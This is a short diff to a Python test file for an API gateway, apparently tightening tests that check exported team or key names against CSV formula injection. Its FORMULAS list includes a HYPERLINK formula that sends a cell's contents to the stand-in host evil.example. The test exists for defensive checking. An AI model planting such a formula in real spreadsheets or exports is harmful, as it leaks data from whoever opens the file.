@@ -11,7 +11,9 @@ from fastapi.testclient import TestClient
 
 from tests.support.gateway import FAKE_MODEL, admin_headers, bearer, build_app, chat_body, create_key, create_team
 
-FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A9)", "\tTAB"]
+# A tab or CR would start a formula too, but names with control characters are refused outright
+# (test_security_review_two.py); the CSV guard for names stored before that is tested there.
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A9)"]
 
 
 @pytest.fixture
